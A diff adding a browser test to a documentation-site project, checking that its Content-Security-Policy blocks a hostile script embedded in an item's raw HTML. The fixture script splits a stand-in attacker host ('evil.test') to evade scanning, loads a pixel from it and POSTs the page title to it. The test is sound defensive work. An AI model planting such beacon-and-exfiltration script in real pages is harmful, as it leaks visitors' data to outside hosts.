@@ -1216,3 +1216,42 @@ def test_a_page_asks_no_other_website_for_what_it_shows(page: Any, tmp_path: Pat
         assert page.locator('a[href="https://partner.example.org/"]').count() == 1
     finally:
         server.close()
+
+
+def test_a_pages_own_script_cannot_load_from_another_website(page: Any, tmp_path: Path) -> None:
+    """What the seal cannot read, a script of an item's raw HTML that builds an address, loaded from another host
+    (a hostile review): the browser itself now refuses, as every page of the site carries a Content-Security-Policy
+    allowing its own files only. The script runs (the refusals are seen), and whatever it asks of another host is
+    blocked by the policy before it leaves the browser."""
+    project = Project(tmp_path / "project")
+    project.write("framework.yml", FRAMEWORK)
+    project.write("mkdocs.yml", MKDOCS_YML)
+    project.item(
+        "partnerships/scripted.md",
+        "title: Scripted\ntype: evidence\nmaps_to: partnerships/do\ndate: 2026-05-14\nvisibility: internal",
+        "Text.\n\n<script>\nconst host = 'https://h44.' + 'evil.test/';\nnew Image().src = host + 'pixel.gif';\n"
+        "fetch(host + 'collect', {method: 'POST', body: document.title}).catch(() => {});\n</script>\n",
+    )
+    built = project.build(audience="internal")  # the widest build
+    assert not built.failed, built.error
+    server = Server(built.site)
+    try:
+        elsewhere: list[tuple[str, str]] = []  # each request to another host, and why it failed
+        page.on("requestfinished", lambda request: elsewhere.append((request.url, "finished")))
+        page.on("requestfailed", lambda request: elsewhere.append((request.url, request.failure or "")))
+        page.add_init_script(
+            "window.refused = []; document.addEventListener('securitypolicyviolation', "
+            "event => window.refused.push(event.blockedURI))"
+        )
+        page.goto(server.url + "partnerships/scripted/")
+        page.wait_for_load_state("networkidle")
+        assert sorted(page.evaluate("window.refused")) == [
+            "https://h44.evil.test/collect",
+            "https://h44.evil.test/pixel.gif",
+        ]
+        others = [(url, why) for url, why in elsewhere if not url.startswith(server.url)]
+        assert all("csp" in why.lower() for _, why in others), others
+        not_found = (built.site / "404.html").read_text(encoding="utf-8")  # the site's 404 page carries it too
+        assert not_found.count('<meta http-equiv="Content-Security-Policy"') == 1
+    finally:
+        server.close()
